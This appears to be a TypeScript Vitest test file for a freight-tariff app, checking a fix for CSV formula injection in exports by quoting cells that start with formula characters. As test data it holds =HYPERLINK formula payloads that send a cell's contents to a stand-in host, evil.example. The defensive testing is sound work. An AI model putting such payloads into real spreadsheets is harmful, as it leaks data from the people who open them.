import { describe, expect, it } from 'vitest';
import { cellValue, inertCell } from '@/lib/domain/spreadsheet-cell';
import { TARIFF_CSV_COLUMNS, parseTariffRow, readHeader, tariffToCsvLine, type TariffLookups } from '@/lib/domain/tariff-csv';

const lookups: TariffLookups = { location: () => 'port', currencyMinorUnits: () => 2 };
const columns = readHeader([...TARIFF_CSV_COLUMNS]).columns!;
const lcl = { mode: 'SEA_LCL', carrier: '', origin: 'TRMER', destination: 'DEHAM', currency: 'USD', valid_from: '2027-01-01', valid_to: '2027-03-31', transit_days: '18', free_days: '7', lcl_per_revenue_ton: '45.50', lcl_minimum: '90' };

/** A tariff with `carrier` as the import reads it. */
const tariffCarried = (carrier: string) => parseTariffRow(TARIFF_CSV_COLUMNS.map((column) => ({ ...lcl, carrier })[column] ?? ''), columns, lookups).tariff!;

/** [T1] finding 6 (low): CSV formula injection — a carrier named `=HYPERLINK(...)` came back verbatim in the export. */
describe('finding 6 (low): CSV formula injection in exports', () => {
  for (const [name, start] of [['equals sign', '='], ['plus sign', '+'], ['minus sign', '-'], ['at sign', '@'], ['tab', '\t'], ['carriage return', '\r']] as const) {
    it(`a cell starting with a ${name} is written with a leading single quote, and reads back as it was`, () => {
      const value = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
      expect(inertCell(value)).toBe(`'${value}`);
      expect(cellValue(inertCell(value))).toBe(value);
    });
  }

  it('leaves every other cell as it is, a leading quote of its own included', () => {
    for (const value of ['Ege Hat', '45.50', "'quoted", '2027-01-01', '', 'A=B', ' =x']) {
      expect(inertCell(value)).toBe(value);
      expect(cellValue(value)).toBe(value);
    }
  });

  it('the tariff export writes a formula-like carrier inert, and the import reads the export back to the same tariff', () => {
    const tariff = tariffCarried('=HYPERLINK("https://evil.example","Fiyat listesi")');
    expect(tariff.carrier).toBe('=HYPERLINK("https://evil.example","Fiyat listesi")');
    const line = tariffToCsvLine(tariff, 2, ';');
    expect(line.split(';')[1]).toBe(`"'=HYPERLINK(""https://evil.example"",""Fiyat listesi"")"`);
    expect(line).not.toMatch(/(^|;)"?[=+\-@]/);
    const cells = line.split(';').map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
    // The carrier cell holds a comma, not the separator: a plain split keeps it whole.
    expect(parseTariffRow(cells, columns, lookups).tariff).toEqual(tariff);
  });
});
